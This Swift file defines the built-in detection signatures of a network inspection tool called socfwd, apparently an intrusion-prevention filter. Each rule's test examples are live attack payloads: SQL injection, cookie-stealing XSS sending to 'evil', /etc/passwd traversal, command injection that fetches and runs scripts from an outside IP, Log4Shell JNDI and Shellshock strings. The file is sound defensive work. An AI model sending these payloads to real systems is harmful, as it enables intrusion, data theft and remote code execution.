/// The seed signatures socfwd loads unless `signatures.default_set: false`.
/// Ids 9,000,001–9,000,999 are reserved for them (below ET's and Snort's
/// ranges). Every signature carries payloads it must catch (`examples`) and
/// look-alike traffic it must let through (`benign`); the unit tests replay
/// both as HTTP requests through the inspector. `socfwd --default-signatures`
/// prints this file.
public enum DefaultSignatures {
    public static let file = "<built-in default signatures>"

    public static let yaml = #"""
# socfw default signatures (seed format, see Docs/signatures.md)
signatures:
  # --- SQL injection -------------------------------------------------------
  - id: 9000001
    name: "SOCFW SQL injection: UNION SELECT in URI"
    severity: high
    protocol: [http]
    field: http.uri
    contains: [union, select]
    pattern: '(?i)union(\s|/\*.*?\*/|\+)+(all(\s|/\*.*?\*/|\+)+)?select\b'
    confidence: 0.9
    action: drop
    classtype: web-application-attack
    examples:
      - "/item.php?id=1 UNION SELECT username,password FROM users--"
      - "/item.php?id=-1/**/union/**/all/**/select/**/1,2,3"
      - "/item.php?id=1+UNION+ALL+SELECT+NULL,version()"
    benign:
      - "/search?q=union+station+timetable"
      - "/blog/select-the-right-union-for-you"
  - id: 9000002
    name: "SOCFW SQL injection: boolean tautology in URI"
    severity: high
    protocol: [http]
    field: http.uri
    pattern: '(?i)[''"]\s*(or|and|\|\||&&)\s+[''"]?(\w+)[''"]?\s*(=|like)\s*[''"]?\2\b'
    prefilter: ["'", '"']
    confidence: 0.8
    action: drop
    classtype: web-application-attack
    examples:
      - "/login.php?user=admin' OR '1'='1&pass=x"
      - "/login.php?user=admin' or 1=1--"
      - "/p?id=x\" OR \"a\"=\"a"
    benign:
      - "/people?name=O'Brien&city=Cork"
      - "/q?s=rock 'n' roll or jazz"
  - id: 9000003
    name: "SOCFW SQL injection: time-based blind (SLEEP/BENCHMARK/WAITFOR/pg_sleep)"
    severity: high
    protocol: [http]
    field: http.uri
    pattern: '(?i)(\b(sleep|pg_sleep)\s*\(\s*\d+\s*\)|\bbenchmark\s*\(\s*\d{4,}\s*,|\bwaitfor\s+delay\s+[''"]\d)'
    prefilter: [sleep, benchmark, waitfor]
    confidence: 0.85
    action: drop
    classtype: web-application-attack
    examples:
      - "/item?id=1 AND SLEEP(5)"
      - "/item?id=1;WAITFOR DELAY '0:0:5'--"
      - "/item?id=1 AND BENCHMARK(5000000,MD5(1))"
      - "/item?id=1;select pg_sleep(10)"
    benign:
      - "/blog/how-much-sleep-do-you-need"
      - "/bench/benchmark-results"
  - id: 9000004
    name: "SOCFW SQL injection: stacked query or comment evasion in URI"
    severity: high
    protocol: [http]
    field: http.uri
    pattern: '(?i)(;\s*(drop|delete|insert|update|truncate|alter|exec(ute)?|shutdown)\s+(table|from|into|database|xp_|sp_|\w+\s+set)|\bxp_cmdshell\b|information_schema\.(tables|columns))'
    prefilter: [";", xp_cmdshell, information_schema]
    confidence: 0.85
    action: drop
    classtype: web-application-attack
    examples:
      - "/item?id=1; DROP TABLE users--"
      - "/item?id=1;exec xp_cmdshell 'dir'"
      - "/item?id=1 and 1=(select count(*) from information_schema.tables)"
    benign:
      - "/docs/how-to-drop-a-table-cloth"
      - "/api/update?id=7"
  - id: 9000005
    name: "SOCFW SQL injection: UNION SELECT in request body"
    severity: high
    protocol: [http]
    field: http.request_body
    contains: [union, select]
    pattern: '(?i)union(\s|/\*.*?\*/|\+)+(all(\s|/\*.*?\*/|\+)+)?select\b'
    confidence: 0.85
    action: drop
    classtype: web-application-attack
    examples:
      - "user=admin&id=1%27+UNION+SELECT+password+FROM+users--"
      - "{\"id\": \"1 union select password from users\"}"
    benign:
      - "comment=The+union+voted+to+select+a+new+chair"
  # --- Cross-site scripting ---------------------------------------------------
  - id: 9000011
    name: "SOCFW XSS: script tag in URI"
    severity: medium
    protocol: [http]
    field: http.uri
    contains: ["<script"]
    pattern: '(?i)<script[\s/>]'
    confidence: 0.9
    action: drop
    classtype: web-application-attack
    examples:
      - "/search?q=<script>alert(document.cookie)</script>"
      - "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
      - "/search?q=%253Cscript%253Ealert(1)%253C/script%253E"
    benign:
      - "/docs/javascript-guide?section=scripts"
      - "/search?q=description+of+script+writing"
  - id: 9000012
    name: "SOCFW XSS: event handler or javascript: URL in URI"
    severity: medium
    protocol: [http]
    field: http.uri
    pattern: '(?i)(<[a-z]+[^>]*[\s/](on(error|load|mouseover|focus|click|toggle|begin)\s*=)|javascript\s*:[^\s]*\(|<(svg|img|iframe|body)[^>]*[\s/]on\w+\s*=)'
    prefilter: ["<", javascript]
    confidence: 0.8
    action: drop
    classtype: web-application-attack
    examples:
      - "/q?s=<img src=x onerror=alert(1)>"
      - "/q?s=<svg/onload=alert(1)>"
      - "/redirect?url=javascript:alert(document.domain)"
    benign:
      - "/guide/onload-events-explained"
      - "/images?img=logo.png&alt=online"
  - id: 9000013
    name: "SOCFW XSS: script tag in request body"
    severity: medium
    protocol: [http]
    field: http.request_body
    contains: ["<script"]
    pattern: '(?i)<script[\s/>]'
    confidence: 0.8
    action: drop
    classtype: web-application-attack
    examples:
      - "comment=<script>document.location='http://evil/'+document.cookie</script>"
    benign:
      - "comment=I+love+the+script+of+this+film"
  # --- Directory traversal / local file inclusion ------------------------------
  - id: 9000021
    name: "SOCFW Directory traversal: ../ sequences in the raw URI"
    severity: high
    protocol: [http]
    field: http.uri.raw
    pattern: '(?i)(\.|%2e|%252e|%c0%ae|%u002e){2}(/|\\|%2f|%5c|%252f|%255c|%c0%af|%u2215)'
    prefilter: ["..", "%2e", "%252e", "%c0%ae", "%u002e"]
    confidence: 0.85
    action: drop
    classtype: web-application-attack
    examples:
      - "/download?file=../../../../etc/passwd"
      - "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow"
      - "/files/..%5c..%5c..%5cwindows%5cwin.ini"
      - "/a/%252e%252e%252f%252e%252e%252fetc/passwd"
    benign:
      - "/docs/v1.2.3/index.html"
      - "/download?file=report..final.pdf"
  - id: 9000022
    name: "SOCFW Directory traversal: request for a system file"
    severity: high
    protocol: [http]
    field: http.uri
    pattern: '(?i)(/etc/(passwd|shadow|group|hosts|issue)\b|/proc/self/(environ|cmdline|maps)|(c:)?[/\\]windows[/\\](win\.ini|system32[/\\])|[/\\]boot\.ini\b|/\.ssh/(id_rsa|authorized_keys))'
    prefilter: [/etc/, /proc/self/, windows, boot.ini, /.ssh/]
    confidence: 0.8
    action: drop
    classtype: web-application-attack
    examples:
      - "/index.php?page=/etc/passwd"
      - "/view?f=....//....//etc/passwd"
      - "/index.php?page=php://filter/resource=/proc/self/environ"
      - "/file?name=C:\\Windows\\win.ini"
    benign:
      - "/etc/hosting-plans"
      - "/windows/help"
  # --- Command injection ---------------------------------------------------------
  - id: 9000031
    name: "SOCFW Command injection: shell command after a separator in URI"
    severity: critical
    protocol: [http]
    field: http.uri
    pattern: '(;|\||&&|\$\(|`|%0a|\n)\s*(/bin/|/usr/bin/)?(cat|id|uname|whoami|wget|curl|nc|ncat|bash|sh|python[23]?|perl|ping|nslookup|chmod|rm)(\s|\+|%20|\$\{IFS\}|;|`|\)|$)'
    prefilter: [";", "|", "&&", "$(", "`", "%0a", "\n"]
    confidence: 0.8
    action: drop
    classtype: web-application-attack
    examples:
      - "/cgi-bin/ping?host=127.0.0.1;cat /etc/passwd"
      - "/api/lookup?host=x|id"
      - "/run?cmd=a&&wget http://203.0.113.9/x.sh"
      - "/diag?ip=$(whoami)"
      - "/diag?ip=1.2.3.4;curl${IFS}http://x/y|sh"
    benign:
      - "/catalog/item?id=7&category=cats"
      - "/search?q=curling+results&sort=date"
  - id: 9000032
    name: "SOCFW Command injection: shell command in request body"
    severity: critical
    protocol: [http]
    field: http.request_body
    pattern: '(;|\||&&|\$\(|`)\s*(/bin/|/usr/bin/)?(cat|id|uname|whoami|wget|curl|nc|bash|sh|python[23]?|perl|chmod|rm)(\s|\+|\$\{IFS\}|;|`|\)|$)'
    prefilter: [";", "|", "&&", "$(", "`"]
    confidence: 0.75
    action: drop
    classtype: web-application-attack
    examples:
      - "host=127.0.0.1;cat+/etc/passwd"
      - "ip=1.1.1.1|wget http://203.0.113.9/bot -O /tmp/b"
    benign:
      - "name=Catherine&message=See+you+at+the+id+office"
  # --- Famous payloads ----------------------------------------------------------
  - id: 9000041
    name: "SOCFW Log4Shell: JNDI lookup in request headers (CVE-2021-44228)"
    severity: critical
    protocol: [http]
    field: http.header.raw
    pattern: '(?i)\$\{\s*(jndi|(\$\{[^}]{0,40}\}|[jndi:]){4,})'
    prefilter: ["${"]
    confidence: 0.95
    action: drop
    classtype: attempted-admin
    reference: "cve,2021-44228"
    examples:
      - "User-Agent: ${jndi:ldap://203.0.113.5:1389/a}\r\n"
      - "X-Api-Version: ${${lower:j}${lower:n}di:ldap://x/a}\r\n"
      - "Referer: ${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}\r\n"
    benign:
      - "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0\r\n"
      - "X-Template: ${user.name}\r\n"
  - id: 9000042
    name: "SOCFW Log4Shell: JNDI lookup in URI or body (CVE-2021-44228)"
    severity: critical
    protocol: [http]
    field: http.uri
    pattern: '(?i)\$\{\s*(jndi|(\$\{[^}]{0,40}\}|[jndi:]){4,})'
    prefilter: ["${"]
    confidence: 0.95
    action: drop
    classtype: attempted-admin
    reference: "cve,2021-44228"
    examples:
      - "/?q=${jndi:ldap://203.0.113.5/a}"
      - "/?q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.5%2Fa%7D"
    benign:
      - "/?q=${name}"
  - id: 9000043
    name: "SOCFW Shellshock: function definition in a request header (CVE-2014-6271)"
    severity: critical
    protocol: [http]
    field: http.header.raw
    contains: ["() {"]
    pattern: '\(\)\s*\{[^}]*;[^}]*\}'
    confidence: 0.95
    action: drop
    classtype: attempted-admin
    reference: "cve,2014-6271"
    examples:
      - "User-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'\r\n"
      - "Referer: () { _; } >_[$($())] { echo; id; }\r\n"
      - "Cookie: x=() { :;}; echo vulnerable\r\n"
    benign:
      - "User-Agent: curl/7.88.1\r\n"
      - "X-Note: call f() { later }\r\n"
  - id: 9000044
    name: "SOCFW PHP code injection in request body"
    severity: high
    protocol: [http]
    field: http.request_body
    pattern: '(?i)(<\?php|\b(eval|assert|system|passthru|shell_exec)\s*\(\s*(base64_decode|\$_(GET|POST|REQUEST|COOKIE)|gzinflate))'
    prefilter: ["<?php", eval, assert, system, passthru, shell_exec]
    confidence: 0.8
    action: drop
    classtype: web-application-attack
    examples:
      - "data=<?php system($_GET['c']); ?>"
      - "x=eval(base64_decode('ZWNobyAxOw=='))"
    benign:
      - "text=PHP+is+a+language&q=evaluation"
"""#
}
